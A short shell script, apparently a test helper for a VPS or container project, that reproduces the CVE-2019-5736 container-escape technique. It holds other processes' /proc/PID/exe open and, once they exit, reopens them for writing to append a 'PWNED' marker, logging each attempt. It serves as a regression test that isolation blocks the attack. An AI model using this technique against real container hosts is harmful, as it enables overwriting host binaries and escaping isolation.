#!/bin/sh
# Runs inside a VPS (tests/userns.bats, the CVE-2019-5736 class): for SECS
# seconds, every process whose executable is not the VPS's own busybox is a
# target: hold its /proc/PID/exe open read-only, and once the program has
# exited (no more ETXTBSY) reopen that fd for writing through /proc/self/fd
# and append PWNED. Logs "saw", "held" and "WROTE" lines to $1.
log=$1 secs=${2:-8}
: >"$log"
end=$(($(date +%s) + secs))
seen=" "
while [ "$(date +%s)" -lt "$end" ]; do
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		case "$seen" in *" $p "*) continue ;; esac
		exe=$(readlink "$d/exe" 2>/dev/null) || continue
		case "$exe" in /bin/busybox | "") continue ;; esac
		seen="$seen$p "
		echo "saw $p $exe" >>"$log"
		(
			exec 7<"$d/exe" || exit 1
			echo "held $p $exe" >>"$log"
			i=0
			while [ $i -lt 60 ]; do
				if { echo PWNED >>/proc/self/fd/7; } 2>/dev/null; then
					echo "WROTE $p $exe" >>"$log"
					exit 0
				fi
				i=$((i + 1))
				sleep 0.1
			done
		) 2>/dev/null &
	done
done
wait
